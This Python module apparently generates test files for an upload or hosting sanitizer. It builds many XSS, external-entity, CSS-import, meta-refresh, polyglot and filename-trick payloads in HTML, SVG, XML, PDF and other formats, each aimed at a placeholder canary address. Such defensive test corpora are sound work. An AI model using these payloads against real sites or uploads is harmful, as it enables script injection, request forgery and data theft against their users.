"""Files that strangers could put beside their notes, each made to run a script, to ask another site, or to send readers there.

Every text has `HIT` where the address stands that must never be asked. Names and bytes are put together from tables: a text that
is harmless as one kind may run as another, so that each comes under many names."""

import base64
import gzip
import random
import zlib

SVG = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
RUN = "fetch('HIT/run')"

# What runs or asks as a page.
PAGES = [
    f"<script>{RUN}</script>",
    f"<!doctype html><title>x</title><body onload=\"{RUN}\">",
    f"<img src=x onerror=\"{RUN}\">",
    f"<svg onload=\"{RUN}\"></svg>",
    f"<noscript><p title=\"</noscript><script>{RUN}</script>\"></noscript>",
    f"<select><script>{RUN}</script></select>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<!--><script>{RUN}</script>-->",
    f"<p/onmouseover=a style=display:block><details open ontoggle=\"{RUN}\">x</details>",
    f"<iframe srcdoc=\"&lt;script&gt;{RUN}&lt;/script&gt;\"></iframe>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>",
    f"<embed src=\"data:text/xml,&lt;x:script xmlns:x='http://www.w3.org/1999/xhtml'&gt;{RUN}&lt;/x:script&gt;\">",
    "<meta http-equiv=refresh content=\"0;url=HIT/refresh\">",
    "<meta http-equiv=refresh content=\"0 HIT/refresh\">",
    "<meta http-equiv=refresh content=\"0,url='HIT/refresh'\">",
    "<link rel=stylesheet href=HIT/style><link rel=prefetch href=HIT/prefetch>",
    "<style>@import 'HIT/import'; p { background: \\75rl(HIT/background) }</style><p>x",
    "<link rel=stylesheet href=\"data:text/css;base64," + "BASE64(p{background:url(HIT/data)})" + "\"><p>x",
    "<base href=HIT/><img src=x>",
    "<video poster=HIT/poster></video><audio src=HIT/audio autoplay></audio>",
    "<img srcset=\"HIT/set 1x\"><input type=image src=HIT/input>",
    "<body background=HIT/body><table background=HIT/table>",
    "<form action=HIT/form id=f></form><script>f.submit()</script>",
    f"<template><script>{RUN}</script></template><div><template shadowrootmode=open><script>{RUN}</script></template></div>",
]

# What stands in a picture.
PIECES = [
    f"<script>{RUN}</script>",
    f"<script><![CDATA[{RUN}]]></script>",
    "<script xlink:href=\"HIT/script\"/>",
    "<script href=\"data:text/javascript,fetch(%27HIT/data%27)\"/>",
    f"<s:script xmlns:s=\"http://www.w3.org/2000/svg\">{RUN}</s:script>",
    f"<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">{RUN}</h:script>",
    f"<h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"{RUN}\"/>",
    f"<g xmlns=\"http://www.w3.org/1999/xhtml\"><script>{RUN}</script></g>",
    f"<foreignObject width=\"9\" height=\"9\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>{RUN}</script></body></foreignObject>",
    f"<foreignObject width=\"9\" height=\"9\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:{RUN}\"/></foreignObject>",
    "<foreignObject width=\"9\" height=\"9\"><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"HIT/foreign\"/></foreignObject>",
    "<foreignObject width=\"9\" height=\"9\"><meta xmlns=\"http://www.w3.org/1999/xhtml\" http-equiv=\"refresh\" content=\"0;url=HIT/m\"/></foreignObject>",
    f"<rect onclick=\"{RUN}\" onfocus=\"{RUN}\" tabindex=\"1\" autofocus=\"\"/>",
    f"<rect onbegin=\"{RUN}\"/><set attributeName=\"x\" to=\"1\" onbegin=\"{RUN}\"/>",
    f"<animate attributeName=\"x\" dur=\"1s\" onbegin=\"{RUN}\" onend=\"{RUN}\"/>",
    f"<image href=\"x\" onerror=\"{RUN}\"/>",
    "<image href=\"HIT/image\" width=\"9\" height=\"9\"/>",
    "<image xlink:href=\"HIT/image\" width=\"9\" height=\"9\"/>",
    "<image x:href=\"HIT/image\" width=\"9\" height=\"9\" xmlns:x=\"http://www.w3.org/1999/xlink\"/>",
    "<image href=\"data:image/svg+xml;base64,BASE64(<svg xmlns='http://www.w3.org/2000/svg'><image href='HIT/inner'/></svg>)\" width=\"9\" height=\"9\"/>",
    "<image href=\"data:text/html,%3Cimg%20src=HIT/page%3E\" width=\"9\" height=\"9\"/>",
    "<image><set attributeName=\"href\" to=\"HIT/set\"/></image>",
    "<image width=\"9\" height=\"9\"><animate attributeName=\"xlink:href\" values=\"HIT/animate\" dur=\"1s\"/></image>",
    "<use href=\"HIT/use.svg#a\"/>",
    f"<use href=\"data:image/svg+xml,&lt;svg id='a' xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>#a\"/>",
    "<feImage href=\"HIT/fe\"/><filter id=\"f\"><feImage href=\"HIT/fe\"/></filter><rect width=\"9\" height=\"9\" filter=\"url(#f)\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"url(HIT/fill#a)\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"UrL( 'HIT/fill#a' ) red\" mask=\"url(HIT/mask)\"/>",
    "<rect width=\"9\" height=\"9\" style=\"fill:u\\72l(HIT/escape#a);clip-path:url(&quot;HIT/clip#a&quot;)\"/>",
    "<rect width=\"9\" height=\"9\" style=\"filter:url(HIT/filter#a);cursor:url(HIT/cursor),auto\"/>",
    "<rect width=\"9\" height=\"9\" style=\"mask:image-set('HIT/set' 1x);mask-image:src('HIT/src');background:url(HIT/b)\"/>",
    "<rect width=\"9\" height=\"9\" style=\"--a:url(HIT/var#a);fill:var(--a)\"/>",
    "<style>@import url(HIT/import);</style>", "<style>@import 'HIT/import' screen;</style>",
    "<style>@im\\port 'HIT/import';</style>", "<style>/*/**/@import/**/'HIT/import';/**/</style>",
    "<style>@font-face{font-family:a;src:url(HIT/font)}text{font-family:a}</style><text y=\"9\">a</text>",
    "<style>@font-face{font-family:a;src:local('x'),url('HIT/font') format('woff2')}*{font-family:a}</style><text y=\"9\">a</text>",
    "<style>rect{fill:url(HIT/css#a);mask:url(HIT/css#b)}</style><rect width=\"9\" height=\"9\"/>",
    "<style>rect{fill:u\\000072l(HIT/css#a)}</style><rect width=\"9\" height=\"9\"/>",
    "<style>a{}&lt;/style>&lt;script>" + RUN + "&lt;/script></style>",
    "<style><![CDATA[</style><script>" + RUN + "</script>]]></style>",
    "<style media=\"screen{}@import 'HIT/media';a\">rect{fill:red}</style>",
    "<style>a{fill:red;}b{fill:'</style><script>" + RUN + "</script>'}</style>",
    "<style>@media screen{@import 'HIT/nested';rect{mask:url(HIT/nested#a)}}</style><rect width=\"9\" height=\"9\"/>",
    "<style>rect{list-style:url(HIT/list);content:url(HIT/content);border-image:url(HIT/border)}</style><rect/>",
    f"<a href=\"javascript:{RUN}\" autofocus=\"\"><rect width=\"99\" height=\"99\"/></a>",
    f"<a xlink:href=\"java&#10;script:{RUN}\"><rect width=\"99\" height=\"99\"/></a>",
    f"<a><set attributeName=\"href\" to=\"javascript:{RUN}\"/><rect width=\"99\" height=\"99\"/></a>",
    f"<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">{RUN}</handler>",
    f"<svg onload=\"{RUN}\"/>", f"<title><svg onload=\"{RUN}\"/></title><desc><script>{RUN}</script></desc>",
    f"<text>&lt;script>{RUN}&lt;/script></text><title>&lt;/title>&lt;script>{RUN}&lt;/script></title>",
    f"<g xml:base=\"HIT/base/\"><use href=\"a.svg#b\"/><image href=\"a.png\" width=\"9\" height=\"9\"/></g>",
    "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"HIT/iframe\"/>",
    "<audio xmlns=\"http://www.w3.org/1999/xhtml\" src=\"HIT/audio\" autoplay=\"\"/>",
    "<link xmlns=\"http://www.w3.org/1999/xhtml\" rel=\"stylesheet\" href=\"HIT/link\"/>",
    f"<metadata><script>{RUN}</script></metadata><unknown><script>{RUN}</script></unknown>",
    f"<switch><foreignObject><script xmlns=\"http://www.w3.org/1999/xhtml\">{RUN}</script></foreignObject></switch>",
    f"<discard onbegin=\"{RUN}\"/><animateMotion onbegin=\"{RUN}\" path=\"M0,0\" dur=\"1s\"><mpath href=\"HIT/mpath#a\"/></animateMotion>",
    "<textPath href=\"HIT/path#a\">a</textPath><tref xlink:href=\"HIT/tref#a\"/><pattern href=\"HIT/pattern#a\"/>",
    "<color-profile xlink:href=\"HIT/profile\" name=\"a\"/><cursor xlink:href=\"HIT/cursor\"/>",
]

# What stands before a picture.
PROLOGS = [
    "<?xml-stylesheet href=\"HIT/instruction\" type=\"text/css\"?>",
    "<?xml-stylesheet href=\"&#72;IT/reference\" type=\"text/css\"?>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"HIT/transform\"?>",
    "<!DOCTYPE svg SYSTEM \"HIT/type\">",
    "<!DOCTYPE svg [<!ENTITY % a SYSTEM \"HIT/entity\"> %a;]>",
    "<!DOCTYPE svg [<!ENTITY a SYSTEM \"HIT/entity\">]>",
    f"<!DOCTYPE svg [<!ENTITY a \"<script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>\">]>",
    f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"{RUN}\">]>",
    f"<!DOCTYPE svg [<!ATTLIST rect onclick CDATA \"{RUN}\" xmlns CDATA #FIXED \"http://www.w3.org/1999/xhtml\">]>",
]

XML = [
    f"<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{RUN}</script></html>",
    f"<a><b:script xmlns:b=\"http://www.w3.org/1999/xhtml\">{RUN}</b:script></a>",
    f"<a><b:svg xmlns:b=\"http://www.w3.org/2000/svg\" onload=\"{RUN}\"/></a>",
    f"<?xml-stylesheet type=\"text/xsl\" href=\"#s\"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><a><xsl:stylesheet id=\"s\" version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><script xmlns=\"http://www.w3.org/1999/xhtml\">{RUN}</script></xsl:template></xsl:stylesheet></a>",
    "<?xml-stylesheet href=\"HIT/css\"?><a/>",
    f"<rss version=\"2.0\"><channel><title>a</title><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">{RUN}</h:script></channel></rss>",
    f"<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi href=\"javascript:{RUN}\">a</mi><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">{RUN}</h:script></math>",
]

# Settings and programs of servers; what they hold does not matter.
SERVERS = [
    ".htaccess", ".domains", ".well-known/security.txt", ".well-known/acme-challenge/token", "CNAME", "_headers", "_redirects",
    "_worker.js", "_routes.json", "web.config", "sub/web.config", "php.ini", "netlify.toml", "vercel.json", "firebase.json",
    "staticwebapp.config.json", "a.php", "a.phtml", "a.php5", "a.phar", "a.shtml", "a.shtm", "a.cgi", "a.pl", "a.py", "a.rb", "a.asp",
    "a.aspx", "a.jsp", "a.cfm", "a.php.png", "a.phtml.txt", "a.asp;.jpg", "a.shtml.csv", "service-worker.js", "sw.js", "crossdomain.xml",
    "a.var", "a.sh", "a.inc",
]

# Each is a way of its own: entities that are put together, types that a server or a browser guesses, names of another case or
# direction, several documents in one, and pages inside of pages.
TWISTED = {
    "joined.svg": f'<!DOCTYPE svg [<!ENTITY x "<script xmlns=\'http://www.w3.org/2000/svg\'>"><!ENTITY y "</script>">]><svg {SVG}>&x;{RUN}&y;</svg>',
    "namespace.svg": f'<!DOCTYPE svg [<!ENTITY h "http://www.w3.org/1999/xhtml">]><svg {SVG} xmlns:h="&h;"><h:script>{RUN}</h:script></svg>',
    "parameter.svg": f'<!DOCTYPE svg [<!ENTITY % p "<!ENTITY q SYSTEM \'HIT/q\'>"> %p;]><svg {SVG}><text>&q;</text></svg>',
    "notation.svg": f'<!DOCTYPE svg [<!NOTATION n SYSTEM "HIT/n"><!ENTITY e SYSTEM "HIT/e" NDATA n>]><svg {SVG} id="e"/>',
    "conditional.svg": f'<!DOCTYPE svg [<![INCLUDE[<!ATTLIST svg onload CDATA "{RUN}">]]>]><svg {SVG}/>',
    "public.svg": f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "HIT/svg11.dtd" [<!ATTLIST svg onload CDATA "{RUN}">]><svg {SVG}/>',
    "two.svg": f"<svg {SVG}/><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{RUN}</script></html>",
    "behind.svg": f"<svg {SVG}/>\0<script>{RUN}</script>",
    "nested-frames.html": f"<iframe srcdoc=\"&lt;iframe srcdoc='&amp;lt;script&amp;gt;{RUN.replace(chr(39), '&amp;quot;')}&amp;lt;/script&amp;gt;'&gt;\"></iframe>",
    "frameset.html": f"<frameset onload=\"{RUN}\"><frame src=\"javascript:{RUN}\"></frameset>",
    "portal.html": "<link rel=preconnect href=HIT/><link rel=dns-prefetch href=HIT/><link rel=modulepreload href=HIT/m.js><link rel=icon href=HIT/i>",
    "speculation.html": "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"HIT/s\"]}]}</script>",
    "importmap.html": "<script type=importmap>{\"imports\":{\"a\":\"HIT/map.js\"}}</script><script type=module>import 'a'</script>",
    "manifest.html": "<html manifest=HIT/appcache><link rel=manifest href=HIT/manifest>",
    "deep-import.css": "@charset 'utf-8';@import url(data:text/css,@import%20'HIT/deep');@namespace svg url(HIT/ns);",
    "layer.svg": f"<svg {SVG}><style>@layer a;@import 'HIT/layer' layer(a) supports(display:block);</style><rect width='9' height='9'/></svg>",
    "container.svg": f"<svg {SVG}><style>@container (width>0){{rect{{fill:url(HIT/c#a)}}}}@supports (fill:red){{rect{{mask:url(HIT/s)}}}}</style><rect width='9' height='9'/></svg>",
    "offset.svg": f"<svg {SVG}><rect width='9' height='9' style='offset-path:url(HIT/o#a);shape-outside:url(HIT/so);clip-path:url( \"HIT/cp#a\" )'/></svg>",
    "Upper.SVG": f"<svg {SVG} onload=\"{RUN}\"/>",
    "Mixed.HtMl": f"<script>{RUN}</script>",
    "long-s.\u017fvg": f"<svg {SVG} onload=\"{RUN}\"/>",
    "turned-\u202egvs.html": f"<script>{RUN}</script>",
    "space.svg ": f"<svg {SVG} onload=\"{RUN}\"/>",
    "question.html?.png": f"<script>{RUN}</script>",
    "percent.svg%00.png": f"<svg {SVG} onload=\"{RUN}\"/>",
    "report.pdf.html": "%PDF-1.7\n" + f"<script>{RUN}</script>",
    "open.pdf": "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(HIT/pdf)>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL('HIT/js'))>>]>>>>>>endobj\ntrailer<</Root 1 0 R>>",
    "mail.eml": f"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>{RUN}</script>",
    "archive.mhtml": f"From: x\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<script>{RUN}</script>\n--b--",
    "sub.vtt": f"WEBVTT\n\nSTYLE\n::cue {{ background: url(HIT/cue) }}\n\n00:00.000 --> 00:09.000\n<script>{RUN}</script>",
    "list.m3u8": "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"HIT/key\"\n#EXTINF:1,\nHIT/part.ts",
    "go.url": "[InternetShortcut]\nURL=HIT/go", "go.webloc": "<plist><dict><key>URL</key><string>HIT/go</string></dict></plist>",
    "shown.svgz": f"<svg {SVG} onload=\"{RUN}\"/>",
}

PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89"
# What stands before a page so that it looks like another kind.
HEADS = {
    "png": PNG, "gif": b"GIF89a/*", "jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0", "pdf": b"%PDF-1.7\n", "zip": b"PK\3\4", "webp": b"RIFF0000WEBP",
    "mp4": b"\0\0\0\x20ftypisom", "mp3": b"ID3\4\0\0", "ogg": b"OggS\0", "woff2": b"wOF2\0", "webm": b"\x1a\x45\xdf\xa3", "bmp": b"BM0000\0\0\0\0",
    "ico": b"\0\0\1\0", "wav": b"RIFF0000WAVE", "gz": b"\x1f\x8b\x08",
}
# Endings of all kinds that a page is tried under.
ENDINGS = [
    "html", "htm", "xhtml", "xht", "shtml", "mht", "xml", "svg", "svgz", "css", "js", "txt", "csv", "json", "md.txt", "png", "jpg", "gif", "pdf",
    "mp4", "zip", "xpdl", "rdf", "html.en", "html.gz", "svg.gz", "HTML", "html.", "unknown", "swift", "vtt", "yaml", "log", "xsl", "rss", "webmanifest",
]


def picture(piece, prolog="", attributes=""):
    return f'{prolog}<svg {SVG} {XLINK} width="99" height="99" {attributes}>{piece}<rect width="9" height="9" fill="red"/></svg>'


def filled(text, address):
    """With the address in its places, and texts in base64 where they are asked for."""
    text = text.replace("HIT", address)
    start = text.find("BASE64(")
    if start < 0:
        return text
    end = text.rindex(")")
    inner = text[start + len("BASE64("):end]
    return text[:start] + base64.b64encode(inner.encode()).decode() + text[end + 1:]


def files(address):
    """All of them: names below the folder, and bytes."""
    found = {}

    def add(group, ending, content):
        data = content if isinstance(content, bytes) else filled(content, address).encode()
        name = ending if group is None else f"{group}-{len(found):03}.{ending}"
        found[name] = data.replace(b"HIT", address.encode())

    for number, page in enumerate(PAGES):
        add("page", "html", page)
        add("page", ENDINGS[number % len(ENDINGS)], page)
    for ending in ENDINGS:
        add("ending", ending, PAGES[0])
    for piece in PIECES:
        add("picture", "svg", picture(piece))
    for prolog in PROLOGS:
        add("prolog", "svg", picture("&a;" if "ENTITY a" in prolog else "", prolog))
    add("root", "svg", picture("", attributes=f"onload=\"{RUN}\" onfocus=\"{RUN}\" style=\"background:url(HIT/root)\""))
    for text in XML:
        add("xml", "xml", text)
        add("xml", "svg", text)
        add("xml", "xpdl", text)
    for name in SERVERS:
        add(None, name, PAGES[0])
    for ending, head in HEADS.items():
        add("polyglot", ending, head + filled(PAGES[0], address).encode())
        add("polyglot", "html", head + filled(PAGES[0], address).encode())
    page, image = filled(PAGES[0], address), filled(picture(PIECES[0]), address)
    for name in ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "iso2022_jp"]:
        for ending in ["html", "txt", "svg", "xml"]:
            add("encoding", ending, (image if ending == "svg" else page).encode(name))
        declared = f"<?xml version='1.0' encoding='{name}'?>" + image
        add("declared", "svg", declared.encode(name))
        add("declared", "svg", declared.encode())
    for before in [b"\xef\xbb\xbf", b" \n\t", b"\0", b"\x0c", b"<!-- -->", b"\x1b$B", b"\xfe\xff", b"x\n" * 600]:
        for ending in ["txt", "csv", "html", "svg", "json"]:
            add("before", ending, before + page.encode())
    add("gzip", "svgz", gzip.compress(image.encode(), mtime=0))
    add("gzip", "svg", gzip.compress(image.encode(), mtime=0))
    add("deflate", "svg", zlib.compress(image.encode()))
    for name, content in TWISTED.items():
        add(None, name, content)
    # The byte order mark of one encoding before a picture in another.
    for mark in [b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\0\0", b"+/v8-", b"\xef\xbb\xbf\xef\xbb\xbf"]:
        add("mark", "svg", mark + image.encode())
    add("style", "css", "@import 'HIT/style'; * { background: url(HIT/background) }")
    add("script", "js", RUN)
    return found


def variants(count, seed, address):
    """Pictures made of parts of the others, with tags, encodings and namespaces changed."""
    chance = random.Random(seed)
    names = ["script", "style", "a", "image", "use", "foreignObject", "set", "animate", "iframe", "svg", "g", "title", "text", "feImage", "x"]
    attributes = ["onload", "onerror", "href", "xlink:href", "x:href", "style", "fill", "xmlns", "xmlns:x", "to", "values", "src", "id", "class"]
    values = [RUN, f"javascript:{RUN}", "HIT/v", "url(HIT/v#a)", "u\\72l(HIT/v)", "#a", "red", "http://www.w3.org/1999/xhtml",
              "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink", "fill:url(HIT/v)", "@import 'HIT/v';", "data:text/html,HIT"]
    for number in range(count):
        text = picture("".join(chance.sample(PIECES, chance.randint(1, 3))), chance.choice(PROLOGS + [""] * 20))
        for _ in range(chance.randint(0, 6)):
            place = chance.randrange(len(text))
            kind = chance.randrange(7)
            if kind == 0:
                text = text[:place] + chance.choice("<>&\"'/;:{}()\\ \n\t!-?#[]=") + text[place:]
            elif kind == 1:
                text = text[:place] + text[place + chance.randint(1, 8):]
            elif kind == 2:
                text = text.replace(chance.choice(names), chance.choice(names), 1)
            elif kind == 3:
                text = text.replace("<" + chance.choice(names), f"<{chance.choice(names)} {chance.choice(attributes)}=\"{chance.choice(values)}\"", 1)
            elif kind == 4:
                text = text.replace("http://www.w3.org/2000/svg", chance.choice(["http://www.w3.org/1999/xhtml", "", "urn:x"]), 1)
            elif kind == 5:
                end = min(len(text), place + chance.randint(1, 60))
                text = text[:end] + text[place:end] + text[end:]
            else:
                letter = text[place]
                text = text[:place] + f"&#{ord(letter)};" + text[place + 1:]
        data = filled(text, address).encode()
        encoding = chance.randrange(30)
        if encoding < 3:
            data = data.decode().encode(["utf-16", "utf-16-le", "latin-1"][encoding], "replace")
        yield f"v-{number:05}.svg", data
